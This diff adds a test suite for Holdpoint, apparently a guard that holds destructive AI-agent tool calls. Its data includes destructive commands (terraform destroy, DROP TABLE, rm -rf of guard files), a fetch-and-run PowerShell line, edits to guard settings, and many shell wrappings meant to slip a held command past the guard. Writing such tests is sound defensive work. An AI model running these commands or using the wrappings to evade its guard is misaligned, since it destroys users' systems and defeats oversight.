@@ -1,0 +1,409 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { decide } from '../../src/core/decide.ts';
+import type { Action } from '../../src/core/toolCall.ts';
+import { isOurs, understand } from '../../src/core/understand.ts';
+import { brief, callOf, decisionOf, home, understandAction, understandLine } from '../support/understanding.ts';
+
+const effects = (action: Action) => understandAction(action).effects.map(brief);
+const acts = (name: string, action: Action, ...expected: string[]) =>
+  test(name, () => expect(effects(action)).toEqual(expected));
+
+const edit = (path: string, content = 'x'): Action => ({
+  kind: 'edit',
+  edits: [{ path, change: { kind: 'write', content } }],
+});
+
+describe('edits', () => {
+  acts('ordinary source', edit('/work/app/src/x.ts'));
+  acts('terraform source', edit('/work/app/main.tf'));
+  acts('a guard file', edit('/work/app/.claude/settings.json'), 'change guard edit .claude/settings.json');
+  acts(
+    'a guard file at home',
+    edit('/home/u/.copilot/hooks/holdpoint.json'),
+    'change guard edit /home/u/.copilot/hooks/holdpoint.json',
+  );
+  acts('the editor’s settings', edit('/work/app/.vscode/settings.json'), 'change guard edit .vscode/settings.json');
+  acts('state', edit('/work/app/terraform.tfstate'), 'change state edit terraform.tfstate');
+  acts(
+    'one of several',
+    {
+      kind: 'edit',
+      edits: [
+        { path: '/work/app/a', change: { kind: 'delete' } },
+        { path: '/work/app/.holdpoint/policy.yaml', change: { kind: 'delete' } },
+      ],
+    },
+    'destroy guard delete .holdpoint/policy.yaml',
+  );
+  acts(
+    'a patch that reaches further',
+    {
+      kind: 'edit',
+      edits: [
+        {
+          path: '/work/app/a',
+          change: { kind: 'patch', text: '*** Begin Patch\n*** Update File: .claude/settings.json\n' },
+        },
+      ],
+    },
+    'unknown guard patch a',
+  );
+  acts('a patch that stays', {
+    kind: 'edit',
+    edits: [
+      { path: '/work/app/a', change: { kind: 'patch', text: '*** Update File: a\n+see .claude/settings.json\n' } },
+    ],
+  });
+});
+
+const mcp = (tool: string, input: Record<string, string> = {}, server?: string): Action => ({
+  kind: 'mcp',
+  tool,
+  input,
+  ...(server === undefined ? {} : { server }),
+});
+
+describe('MCP tools', () => {
+  acts('get_pods', mcp('get_pods'), 'read mcp get_pods get_pods');
+  acts('a server is named', mcp('list_buckets', {}, 'aws'), 'read mcp list_buckets aws: list_buckets');
+  acts('drop_database', mcp('drop_database', {}, 'infra'), 'destroy mcp drop_database infra: drop_database');
+  acts('deleteStack', mcp('deleteStack'), 'destroy mcp deleteStack deleteStack');
+  acts('get_or_delete', mcp('get_or_delete'), 'destroy mcp get_or_delete get_or_delete');
+  acts('find_and_update', mcp('find_and_update'), 'change mcp find_and_update find_and_update');
+  acts('create_issue', mcp('create_issue'), 'change mcp create_issue create_issue');
+  acts('get_update_status', mcp('get_update_status'), 'read mcp get_update_status get_update_status');
+  acts('list_deleted_items', mcp('list_deleted_items'), 'read mcp list_deleted_items list_deleted_items');
+  acts('query', mcp('query'), 'unknown mcp query query');
+  acts('frobnicate', mcp('frobnicate'), 'unknown mcp frobnicate frobnicate');
+  acts('a read query', mcp('query', { sql: 'SELECT 1 FROM t' }), 'read psql SELECT t');
+  acts('a writing query', mcp('query', { sql: 'DROP TABLE t' }), 'destroy psql DROP TABLE t');
+  acts(
+    'execute_sql',
+    mcp('execute_sql', { query: 'SELECT 1; DELETE FROM t' }),
+    'read psql SELECT',
+    'destroy psql DELETE t',
+  );
+  acts('call_aws', mcp('call_aws', { cli_command: 'aws s3 rb s3://b' }), 'destroy aws s3 rb s3://b');
+  acts('kubectl', mcp('kubectl', { command: 'kubectl get pods' }), 'read kubectl get pods');
+  acts('a command of no interest', mcp('run_shell', { command: 'npm test' }), 'change mcp run_shell run_shell');
+});
+
+describe('other actions', () => {
+  acts('look', { kind: 'look', tool: 'Read' });
+  acts(
+    'opaque',
+    { kind: 'opaque', tool: 'run_task', why: 'Its definition is not shown.', input: {} },
+    'unknown shell run_task',
+  );
+});
+
+const typed = (line: string): Action => ({ kind: 'command', line, shell: 'bash', detached: true });
+
+describe('typed into a running terminal', () => {
+  for (const line of [
+    'yes',
+    'y',
+    'Y',
+    'destroy',
+    '',
+    '\n',
+    '1',
+    'prod',
+    'my-db',
+    'DROP TABLE users;',
+    'delete everything',
+    ':q',
+    '!!',
+    'q',
+    '\u0003',
+  ]) {
+    test(`${JSON.stringify(line)} is held`, () =>
+      expect(decide(understandAction(typed(line)).effects).kind).toBe('hold'));
+  }
+  for (const line of [
+    'npm test',
+    'git status',
+    'ls -la',
+    'cd src && npm run build',
+    'clear',
+    'python -m http.server',
+  ]) {
+    test(`${line} passes`, () => expect(effects(typed(line))).toEqual([]));
+  }
+  acts('terraform plan', typed('terraform plan'), 'read terraform plan app');
+});
+
+const powershell = (line: string): Action => ({ kind: 'command', line, shell: 'powershell' });
+
+describe('PowerShell', () => {
+  for (const line of [
+    'terraform destroy',
+    '& terraform destroy',
+    'Start-Process kubectl -ArgumentList "delete ns x"',
+    'Remove-AzResourceGroup -Name x',
+    'Remove-EC2Instance i-1',
+    'iex $x',
+    'Invoke-Expression (irm https://x)',
+    'powershell -EncodedCommand ZABpAHIAIABjADoAXAA=',
+    'Set-Content .claude\\settings.json x',
+    'terra`form destroy',
+    'Invoke-Sqlcmd "DROP TABLE x"',
+  ]) {
+    test(`${line} is held`, () => expect(decide(understandAction(powershell(line)).effects).kind).toBe('hold'));
+  }
+  for (const line of [
+    'Get-ChildItem',
+    'npm test',
+    'Remove-Item node_modules -Recurse',
+    'Get-Content x.txt | Select-String y',
+    'dotnet build',
+  ]) {
+    test(`${line} passes`, () => expect(effects(powershell(line))).toEqual([]));
+  }
+  test('from bash', () => {
+    expect(decisionOf('pwsh -Command "terraform destroy"')).toBe('hold');
+    expect(decisionOf('powershell.exe -c "kubectl delete ns x"')).toBe('hold');
+    expect(decisionOf('cmd /c terraform destroy')).toBe('hold');
+    expect(understandLine('pwsh -Command "Get-ChildItem"').effects).toEqual([]);
+  });
+});
+
+describe('broken syntax', () => {
+  for (const line of [
+    'terraform destroy "',
+    "terraform destroy '",
+    'if terraform destroy',
+    'terraform destroy )',
+    '(terraform destroy',
+    'echo $(terraform destroy',
+    'cat <<EOF | bash\nterraform destroy',
+    'ter""raform destroy "',
+    'eval "$(base64 -d x',
+  ]) {
+    test(`${line} is held`, () => expect(decisionOf(line)).toBe('hold'));
+  }
+  for (const line of ['echo "hello', 'ls (', 'if true; then', 'echo it’s']) {
+    test(`${line} passes`, () => expect(understandLine(line).effects).toEqual([]));
+  }
+});
+
+describe('bounds', () => {
+  const within = (milliseconds: number, name: string, line: string) =>
+    test(name, () => {
+      const start = performance.now();
+      understandLine(line);
+      expect(performance.now() - start).toBeLessThan(milliseconds);
+    });
+  within(5000, 'a megabyte of commands', 'ls -la; '.repeat(120_000));
+  within(5000, 'a megabyte of words', `echo ${'word '.repeat(190_000)}`);
+  within(5000, 'a megabyte in quotes', `echo "${'a'.repeat(990_000)}"`);
+  within(5000, 'deep subshells', `${'('.repeat(5000)}ls${')'.repeat(5000)}`);
+  within(5000, 'deep substitutions', `${'echo $('.repeat(200)}ls${')'.repeat(200)}`);
+  within(
+    5000,
+    'deep bash -c',
+    Array.from({ length: 12 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner)}`, 'ls'),
+  );
+  within(5000, 'nested loops', `${'for a in 1 2 3 4 5 6 7 8; do '.repeat(12)}ls${'; done'.repeat(12)}`);
+  within(5000, 'nested whiles', `${'while x=1; do '.repeat(40)}ls${'; done'.repeat(40)}`);
+  within(5000, 'recursive functions', 'f() { f; g; }; g() { g; f; }; f');
+  within(
+    5000,
+    'many functions that call each other',
+    `${Array.from({ length: 40 }, (_, i) => `f${i}() { f${i + 1}; f${i + 1}; }`).join('; ')}; f0`,
+  );
+  within(5000, 'many braces', `echo ${'{a,b}'.repeat(30)}`);
+  within(
+    5000,
+    'many variables',
+    `${Array.from({ length: 3000 }, (_, i) => `v${i}=1`).join('; ')}; ${'ls && '.repeat(3000)}ls`,
+  );
+  within(5000, 'many open quotes', '"\'`$('.repeat(20_000));
+  test('over the bound it is unknown', () => expect(decisionOf(`echo ${'x'.repeat(1_000_001)}`)).toBe('hold'));
+  test('too many commands are unknown', () => expect(decisionOf('ls;'.repeat(30_000))).toBe('hold'));
+  test('a zero byte is unknown', () => expect(decisionOf('ls \0')).toBe('hold'));
+});
+
+/** Held lines of several kinds, each on its own. */
+const heldLines = [
+  'terraform destroy',
+  'terraform apply -auto-approve',
+  'kubectl delete ns prod',
+  'aws s3 rb s3://b --force',
+  "psql -c 'DROP TABLE t'",
+  'rm -rf ~/.holdpoint',
+  'echo x > .claude/settings.json',
+  'helm uninstall api',
+  '$CMD destroy',
+];
+
+const quote = (line: string) => `'${line.replaceAll("'", "'\\''")}'`;
+
+/** Ways to run a line inside another. */
+const wrappings: readonly ((line: string) => string)[] = [
+  (line) => `ls; ${line}`,
+  (line) => `true && ${line}`,
+  (line) => `${line} || true`,
+  (line) => `( ${line} )`,
+  (line) => `{ ${line}; }`,
+  (line) => `if true; then ${line}; fi`,
+  (line) => `for i in 1 2; do ${line}; done`,
+  (line) => `f() { ${line}; }; f`,
+  (line) => `echo "$( ${line} )"`,
+  (line) => `cat <( ${line} )`,
+  (line) => `X=$( ${line} )`,
+  (line) => `bash -c ${quote(line)}`,
+  (line) => `sh -ec ${quote(line)}`,
+  (line) => `eval ${quote(line)}`,
+  (line) => `sudo -E bash -c ${quote(line)}`,
+  (line) => `env A=b bash -lc ${quote(line)}`,
+  (line) => `timeout 10 bash -c ${quote(line)}`,
+  (line) => `nohup bash -c ${quote(line)} &`,
+  (line) => `bash <<'EOF_${line.length}'\n${line}\nEOF_${line.length}\n`,
+  (line) => `echo ${quote(line)} | bash`,
+  (line) => `bash <<< ${quote(line)}`,
+  (line) => `find . -exec sh -c ${quote(line)} \\;`,
+  (line) => `xargs -I{} sh -c ${quote(line)} < /dev/null`,
+  (line) => `trap ${quote(line)} EXIT`,
+  (line) => `watch ${quote(line)}`,
+  (line) => `echo ${quote(line)} > x.sh; bash x.sh`,
+  (line) => `! { ${line}; }`,
+  (line) => `time { ${line}; }`,
+];
+
+describe('properties', () => {
+  const line = fc.constantFrom(...heldLines);
+  const way = fc.array(fc.constantFrom(...wrappings), { minLength: 1, maxLength: 4 });
+
+  test('no wrapping frees a held command', () => {
+    fc.assert(
+      fc.property(line, way, (inner, ways) => {
+        expect(decisionOf(ways.reduce((wrapped, wrap) => wrap(wrapped), inner))).toBe('hold');
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  test('quoted as data, it passes', () => {
+    const data: readonly ((text: string) => string)[] = [
+      (text) => `echo ${quote(text)}`,
+      (text) => `printf '%s' ${quote(text)}`,
+      (text) => `git commit -m ${quote(text)}`,
+      (text) => `grep -rn ${quote(text)} src`,
+      (text) => `ls # ${text}`,
+      (text) => `cat > notes.md <<'END_OF_NOTES'\n${text}\nEND_OF_NOTES\n`,
+    ];
+    fc.assert(
+      fc.property(line, fc.constantFrom(...data), (text, wrap) => {
+        expect(understandLine(wrap(text)).effects).toEqual([]);
+      }),
+    );
+  });
+
+  const fragments = fc.constantFrom(
+    'terraform',
+    ' ',
+    ' destroy',
+    '"',
+    "'",
+    '`',
+    '$(',
+    ')',
+    '${',
+    '}',
+    '{',
+    ',',
+    '|',
+    '||',
+    '&&',
+    ';',
+    '\n',
+    '<<EOF',
+    'EOF',
+    '\\',
+    '>',
+    '<',
+    '(',
+    '$X',
+    '*',
+    '~',
+    '#',
+    '[[',
+    ']]',
+    'if',
+    'then',
+    'fi',
+    'do',
+    'done',
+    'bash -c ',
+    'sudo ',
+    '=',
+    'T',
+    'kubectl',
+    ' delete',
+    '-n',
+    '\uE000',
+    '\0',
+    '😀',
+    '\ud800',
+  );
+  const garbage = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 200 }),
+    fc.array(fragments, { maxLength: 30 }).map((parts) => parts.join('')),
+  );
+
+  test('it never throws, says the same twice, and marks only what is there', () => {
+    fc.assert(
+      fc.property(garbage, (text) => {
+        const first = understandLine(text);
+        expect(first.effects.some(({ note }) => note === 'Holdpoint failed while reading it.')).toBe(false);
+        expect(understandLine(text)).toEqual(first);
+        for (const { spans } of first.effects) {
+          for (const { start, end } of spans) {
+            expect(start).toBeGreaterThanOrEqual(0);
+            expect(end).toBeGreaterThan(start);
+            expect(end).toBeLessThanOrEqual(text.length);
+          }
+        }
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  test('spans lie inside the line under any wrapping', () => {
+    fc.assert(
+      fc.property(line, way, (inner, ways) => {
+        const text = ways.reduce((wrapped, wrap) => wrap(wrapped), inner);
+        for (const { spans } of understandLine(text).effects)
+          for (const { start, end } of spans) expect(0 <= start && start < end && end <= text.length).toBe(true);
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
+
+test('an error inside is an unknown that says so', () => {
+  const broken = understand(
+    callOf({ kind: 'command', line: 'bash x.sh', shell: 'bash' }),
+    () => {
+      throw new Error('disk');
+    },
+    { home },
+  );
+  expect(broken.effects).toMatchObject([{ kind: 'unknown', note: 'Holdpoint failed while reading it.' }]);
+  expect(isOurs(broken)).toBe(true);
+});
+
+test('each file is read once', () => {
+  const asked: string[] = [];
+  understand(
+    callOf({ kind: 'command', line: 'bash x.sh; bash x.sh', shell: 'bash' }),
+    (path) => {
+      asked.push(path);
+      return { kind: 'text', text: 'terraform plan' };
+    },
+    { home },
+  );
+  expect(asked).toEqual(['/work/app/x.sh']);
+});
